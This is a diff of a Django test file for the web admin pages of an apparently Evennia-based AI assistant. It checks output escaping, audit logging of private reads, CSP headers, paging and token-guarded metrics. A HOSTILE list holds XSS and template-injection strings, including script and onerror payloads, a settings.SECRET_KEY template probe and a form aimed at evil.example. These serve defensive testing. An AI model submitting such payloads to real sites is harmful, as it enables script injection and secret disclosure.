@@ -20,53 +20,34 @@ from evennia_ai.rag_memory.episodic_index import turn_of_entry
 from evennia_ai.rag_memory.ledger import PROPOSED
 from evennia_ai.web.site import ADMIN, BUILDER
 from evennia_ai.web.urls import PAGES
+from tests.base import AssistantTest
 from tests.command_line import CommandLineTest
 from tests.waiting import wait_for
 
+TOKEN = "a-long-random-text"
 SECRET = "the-cellar-key-is-under-the-stone"
 HOSTILE = (
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     '"><svg onload=alert(1)>',
-    "</script><script>alert(1)</script>",
     "{{ settings.SECRET_KEY }}",
     "{% debug %}",
     "[link](javascript:alert(1))",
-    "![x](http://evil.example/x.png)",
     "\u202ethgir\u202c",
     "' autofocus onfocus=alert(1) x='",
     "&lt;b&gt;",
     "<!-- --><plaintext>",
-    "<style>body{display:none}</style>",
-    # Handlers and tags in other cases and forms.
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=data:text/html,<script>alert(1)</script>>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>",
     "<form action=//evil.example><input name=csrfmiddlewaretoken>",
-    "<button formaction=javascript:alert(1)>Approve</button>",
-    "<details open ontoggle=alert(1)>",
-    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-    "<template><script>alert(1)</script></template>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "</textarea><script>alert(1)</script>",
-    "</option></select><script>alert(1)</script>",
-    "' onmouseover='alert(1)",
     '" hx-get="/ai/log/" hx-trigger="load',
     "<div data-chart=stacked data-source=chart></div>",
-    # Templates, entities, markdown, Evennia's own markup.
-    "{% include 'evennia_ai/base.html' %}",
-    "{{ request.user.password }}",
-    "${alert(1)} #{7*7} <%= 7*7 %>",
     "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "<javascript:alert(1)>",
     "**bold** `code` # head\n> quote\n- list",
     "|rred|n |lclook|ltlook|le |[001",
-    # Directions, controls, invisible and combining characters.
-    "\u2066\u202e\u2069\u200f\u061cabc",
     "z\u0335\u0321\u0327a\u0336l\u0337g\u0338o" * 20,
     "a\u200bb\u2060c\ufeffd\u00ad",
     "\x1b[31mred\x1b[0m\x07",
@@ -115,20 +96,22 @@ class Harmless(HTMLParser):
 
 
 @override_settings(ROOT_URLCONF="tests.web.urls")
-class PagesTest(CommandLineTest):
-    """A browser of staff, and an assistant who was told things."""
+class BrowsingTest(CommandLineTest):
+    """A browser whose requests are answered on the test's own thread."""
 
     def setUp(self):
         super().setUp()
         self.client = Client()
-        self.patched = patch(
+        patched = patch(
             "evennia_ai.web.site.on_reactor",
             lambda work, patience_s=None: wait_for(maybeDeferred(work)),
         )
-        self.patched.start()
-        self.addCleanup(self.patched.stop)
-        for page in PAGES:
-            self.assertIn(page.least, (BUILDER, ADMIN))
+        patched.start()
+        self.addCleanup(patched.stop)
+
+
+class PagesTest(BrowsingTest):
+    """A browser of staff, and an assistant who was told things."""
 
     def addresses(self, message="m1"):
         """An address of each page."""
@@ -156,9 +139,6 @@ class PagesTest(CommandLineTest):
         self.assertEqual(response.status_code, 200)
         text = unescape(response.content.decode())
         self.assertEqual([each for each in words if each in text], [])
-
-    def get(self, address):
-        return self.client.get(address)
 
     def logged(self, kind):
         """Lines of one kind in the audit log, once all are written."""
@@ -214,15 +194,15 @@ class TestWhoSeesWhat(PagesTest):
         """Reading private talk leaves a line in the audit log; reading public talk leaves none."""
         self.client.force_login(self.account)
         self.said("The ale is good.")
-        self.get(f"/ai/{self.script.pk}/talk/")
+        self.client.get(f"/ai/{self.script.pk}/talk/")
         self.assertEqual(self.logged("looked"), [])
         self.said(SECRET, audience=private(["o9.abc"]), channel="whisper")
-        self.assertShows(self.get(f"/ai/{self.script.pk}/talk/"), SECRET)
+        self.assertShows(self.client.get(f"/ai/{self.script.pk}/talk/"), SECRET)
         [look] = self.logged("looked")
         self.assertEqual((look["page"], look["private"]), ("talk", 1))
         profile = observe(new_profile("o9.abc", "Zed", 1.0), SECRET, 1.0, "m1", private(["o9.abc"]))
         self.script.obj.entities.put({profile.id: profile})
-        self.assertShows(self.get(f"/ai/{self.script.pk}/memory/"), SECRET)
+        self.assertShows(self.client.get(f"/ai/{self.script.pk}/memory/"), SECRET)
         self.assertEqual([look["page"] for look in self.logged("looked")], ["talk", "memory"])
 
     def test_link_from_the_site(self):
@@ -243,7 +223,7 @@ class TestWhoSeesWhat(PagesTest):
         """Every answer forbids other hosts, inline scripts and frames."""
         self.client.force_login(self.account)
         for _, address in self.addresses():
-            policy = self.get(address)["Content-Security-Policy"]
+            policy = self.client.get(address)["Content-Security-Policy"]
             self.assertIn("default-src 'none'", policy)
             self.assertNotIn("unsafe", policy)
 
@@ -273,20 +253,19 @@ class TestWhatTheyShow(PagesTest):
             script.runtime.last_error = text
             shown = self.page_of("assistants")
             self.assertIn(" ".join(text.split()), " ".join(shown.text.split()))
-        script.state.configure({"persona": "\n".join(HOSTILE[:40])})
+        script.state.configure({"persona": "\n".join(HOSTILE)})
         for message in (heard[0], heard[-1]):
             for page, address in self.addresses(message.id):
                 with self.subTest(page=page.name):
-                    self.assertEqual(Harmless.read(self.get(address)).faults, [])
-        talk = "".join(self.page_of("talk", f"q={number}").text for number in ("", "a"))
-        talk += self.page_of("talk", f"before={heard[20].id}").text
+                    self.assertEqual(Harmless.read(self.client.get(address)).faults, [])
+        talk = self.page_of("talk").text
         missing = [text for text in HOSTILE if text.strip() not in talk]
         self.assertEqual(missing, [])
 
     def page_of(self, name, query=""):
         """A page, read as a browser reads it; its faults are checked."""
         at = next(address for page, address in self.addresses() if page.name == name)
-        found = Harmless.read(self.get(f"{at}?{query}"))
+        found = Harmless.read(self.client.get(f"{at}?{query}"))
         self.assertEqual(found.faults, [])
         return found
 
@@ -296,16 +275,16 @@ class TestWhatTheyShow(PagesTest):
             self.said(f"line {number} of ale", who="Bob" if number % 2 else "Eve")
         self.said("under the stone", audience=private(["o9.abc"]), channel="whisper")
         at = f"/ai/{self.script.pk}/talk/"
-        self.assertShows(self.get(at), "line 119 of ale")
-        self.assertHides(self.get(at), "line 3 of ale")
-        older = re.search(r"before=(\w+)", self.get(at).content.decode())[1]
-        page = self.get(f"{at}?before={older}")
+        self.assertShows(self.client.get(at), "line 119 of ale")
+        self.assertHides(self.client.get(at), "line 3 of ale")
+        older = re.search(r"before=(\w+)", self.client.get(at).content.decode())[1]
+        page = self.client.get(f"{at}?before={older}")
         self.assertShows(page, "line 69 of ale")
         self.assertHides(page, "line 119 of ale")
-        self.assertHides(self.get(f"{at}?who=eve"), "line 119 of ale")
-        self.assertShows(self.get(f"{at}?audience=private"), "under the stone")
-        self.assertHides(self.get(f"{at}?audience=public"), "under the stone")
-        self.assertShows(self.get(f"{at}?q=LINE+7+of"), "line 7 of ale")
+        self.assertHides(self.client.get(f"{at}?who=eve"), "line 119 of ale")
+        self.assertShows(self.client.get(f"{at}?audience=private"), "under the stone")
+        self.assertHides(self.client.get(f"{at}?audience=public"), "under the stone")
+        self.assertShows(self.client.get(f"{at}?q=LINE+7+of"), "line 7 of ale")
 
     def test_why_from_a_reply(self):
         """From a reply its prompt's regions, what it answers and its cost are seen."""
@@ -313,13 +292,13 @@ class TestWhatTheyShow(PagesTest):
         self.say("Aria, is there ale?")
         self.assertEqual(self.tick(), "turn")
         reply = next(m for m in reversed(self.script.history.messages()) if m.role == "assistant")
-        page = self.get(f"/ai/{self.script.pk}/why/{reply.id}/")
+        page = self.client.get(f"/ai/{self.script.pk}/why/{reply.id}/")
         for words in ("It answers:", "is there ale?", "History", "scripted/model"):
             self.assertShows(page, words)
         sent = self.model.requests[-1].messages[0]["content"]
         self.assertShows(page, "The whole prompt", sent.splitlines()[0], '"name": "noop"')
         self.script.runtime.forget(["o9.abc"], "")
-        self.assertShows(self.get(f"/ai/{self.script.pk}/why/{reply.id}/"), "It is not kept")
+        self.assertShows(self.client.get(f"/ai/{self.script.pk}/why/{reply.id}/"), "It is not kept")
 
     def test_a_scene(self):
         """Who said what to whom in a room, in order; what was whispered is marked and noted."""
@@ -329,7 +308,7 @@ class TestWhatTheyShow(PagesTest):
         self.char1.at_say("the red key", msg_self=True, receivers=[self.aria], whisper=True)
         self.tick()
         at = f"/ai/{self.script.pk}/scene/"
-        read = Harmless.read(self.get(at))
+        read = Harmless.read(self.client.get(at))
         self.assertEqual(read.faults, [])
         text = " ".join(read.text.split())
         self.assertIn(f"{self.room1.key}, as Aria hears it", text)
@@ -338,15 +317,17 @@ class TestWhatTheyShow(PagesTest):
         self.assertEqual(self.logged("looked")[-1]["page"], "scene")
         self.aria.location = self.room2
         self.say("Aria, what now?")
-        self.assertHides(self.get(at), "is there ale?")
-        self.assertShows(self.get(f"{at}?room={stable_id(self.room1)}"), "is there ale?")
-        self.assertShows(self.get(f"{at}?room=o999.x"), "Nothing was heard here yet")
+        self.assertHides(self.client.get(at), "is there ale?")
+        self.assertShows(self.client.get(f"{at}?room={stable_id(self.room1)}"), "is there ale?")
+        self.assertShows(self.client.get(f"{at}?room=o999.x"), "Nothing was heard here yet")
 
     def test_answers_that_fell_back(self):
         """Their number and share stand in the list and in the state."""
         self.script.runtime.counts.update({"answers": 8, "fell back": 2})
         for address in ("/ai/", f"/ai/{self.script.pk}/"):
-            self.assertShows(self.get(address), "8 answers, 2 of them (25%) by the offline model")
+            self.assertShows(
+                self.client.get(address), "8 answers, 2 of them (25%) by the offline model"
+            )
 
     def test_calls_without_a_price(self):
         """Calls of a model without a price show their tokens and say so; they cost no $0.0000."""
@@ -355,7 +336,7 @@ class TestWhatTheyShow(PagesTest):
         self.say("Aria, is there ale?")
         self.assertEqual(self.tick(), "turn")
         for address in ("/ai/", "/ai/spend/", f"/ai/{self.script.pk}/"):
-            page = self.get(address)
+            page = self.client.get(address)
             self.assertShows(page, "no price known")
             self.assertHides(page, "0.0000")
 
@@ -363,7 +344,7 @@ class TestWhatTheyShow(PagesTest):
         """A deleted player or assistant and a purpose are named in words, not by their keys."""
         reply = ModelReply(content="", model="new/model", prompt_tokens=10, cost=0.5)
         services.figures().note_spend("s999.gone", "probe", "a9.gone", reply, self.script.now())
-        page = self.get("/ai/spend/")
+        page = self.client.get("/ai/spend/")
         self.assertShows(page, ">deleted<", ">check of the model<", ">new/model<")
         self.assertHides(page, ">a9.gone<", ">s999.gone<", ">probe<")
 
@@ -372,7 +353,7 @@ class TestWhatTheyShow(PagesTest):
         self.say("Aria, is there ale?")
         self.tick()
         for address in ("/ai/", "/ai/spend/", f"/ai/{self.script.pk}/budget/"):
-            text = self.get(address).content.decode()
+            text = self.client.get(address).content.decode()
             for table in re.findall(r'<div class="scroll".*?</div>', text, re.DOTALL):
                 cells = re.findall(r"<td(?! colspan)[^>]*>", table)
                 self.assertEqual([cell for cell in cells if 'data-label="' not in cell], [])
@@ -381,16 +362,16 @@ class TestWhatTheyShow(PagesTest):
         """The list shows the others, and that one as broken."""
         self.script.attributes.add("conversation_tail", [{"id": 7, "role": "user", "content": []}])
         with patch("evennia_ai.web.overview.overview", side_effect=ValueError("no such thing")):
-            page = self.get("/ai/")
+            page = self.client.get("/ai/")
         self.assertShows(page, "broken: ")
 
     def test_odd_numbers_and_unknown_ids(self):
         """Odd values in an address give a page or a plain answer, never an error."""
         for query in ("spend/?days=x", "spend/?days=-1", "spend/?by=secret&only=1"):
-            self.assertEqual(self.get(f"/ai/{query}").status_code, 200)
+            self.assertEqual(self.client.get(f"/ai/{query}").status_code, 200)
         for page in ("why/m9/", "summaries/s9/"):
-            self.assertEqual(self.get(f"/ai/{self.script.pk}/{page}").status_code, 404)
-        self.assertEqual(self.get("/ai/99999/").status_code, 404)
+            self.assertEqual(self.client.get(f"/ai/{self.script.pk}/{page}").status_code, 404)
+        self.assertEqual(self.client.get("/ai/99999/").status_code, 404)
 
 
 class TestActs(PagesTest):
@@ -419,7 +400,7 @@ class TestActs(PagesTest):
 
     def test_fields_fit_their_kinds(self):
         """Each kind of option has a field of its own, labelled in words."""
-        page = self.get(f"/ai/{self.script.pk}/options/").content.decode()
+        page = self.client.get(f"/ai/{self.script.pk}/options/").content.decode()
         for name, field in (
             ("compact_auto", r'<input type="checkbox" role="switch" [^>]* checked'),
             ("max_react_iterations", '<input [^>]*type="number"'),
@@ -495,7 +476,7 @@ class TestActs(PagesTest):
         entry = self.script.obj.journal.add("Bob owns a green boat.")
         memories, scope = self.script.mind.memories, self.script.scope
         wait_for(memories.add(scope, [turn_of_entry(entry)]))
-        shown = self.get(f"/ai/{self.script.pk}/memory/?q=green+boat")
+        shown = self.client.get(f"/ai/{self.script.pk}/memory/?q=green+boat")
         self.assertShows(shown, "score", f"entry {entry.id}", "1 found of 1")
         shown = self.send("memory", act="forget", id=entry.id)
         self.assertShows(shown, "1 of its memories left semantic memory")
@@ -509,10 +490,41 @@ class TestDoctor(PagesTest):
     def test_slow_checks_come_one_by_one(self):
         """Without scripts a link runs a check; the page itself runs only the quick ones."""
         self.client.force_login(self.account)
-        page = self.get("/ai/doctor/")
+        page = self.client.get("/ai/doctor/")
         self.assertShows(page, "tools can be used", "?check=model", "?check=memory")
         self.assertHides(page, "in memory", "?check=settings")
-        self.assertShows(self.get("/ai/doctor/?check=memory"), "in memory", "?check=settings")
-        page = self.get("/ai/doctor/?check=nonsense")
+        self.assertShows(
+            self.client.get("/ai/doctor/?check=memory"), "in memory", "?check=settings"
+        )
+        page = self.client.get("/ai/doctor/?check=nonsense")
         self.assertShows(page, "tools can be used", "?check=model")
-        self.assertHides(self.get("/ai/doctor/?check=all"), "?check=")
+        self.assertHides(self.client.get("/ai/doctor/?check=all"), "?check=")
+
+
+@override_settings(ROOT_URLCONF="tests.web.urls")
+class TestMetrics(AssistantTest):
+    """Off until a token is set; then for whoever has it."""
+
+    def fetch(self, **headers):
+        return Client().get("/ai/metrics", headers=headers)
+
+    def test_token(self):
+        """Without one set there is nothing; a wrong or missing one is refused."""
+        self.assertEqual(self.fetch().status_code, 404)
+        with override_settings(EVENNIA_AI_METRICS_TOKEN=TOKEN):
+            wrong = ("", "Bearer wrong", "Bearer \u00e9", TOKEN, f"bearer {TOKEN}")
+            for given in (*wrong, f"Basic {TOKEN}", f"Bearer {TOKEN} ", f"Bearer Bearer {TOKEN}"):
+                response = self.fetch(authorization=given)
+                self.assertEqual(response.status_code, 403)
+                self.assertNotIn(b"Aria", response.content)
+            for name in ("token", "Authorization"):  # addresses stand in logs
+                answer = Client().get("/ai/metrics", {name: f"Bearer {TOKEN}"})
+                self.assertEqual(answer.status_code, 403)
+
+    def test_figures(self):
+        """Each assistant has its gauges, in Prometheus' format."""
+        with override_settings(EVENNIA_AI_METRICS_TOKEN=TOKEN):
+            response = self.fetch(authorization=f"Bearer {TOKEN}")
+        self.assertEqual(response.status_code, 200)
+        self.assertIn(b'evennia_ai_up{assistant="Aria"} 1.0', response.content)
+        self.assertIn(b'evennia_ai_context_usage_ratio{assistant="Aria"}', response.content)
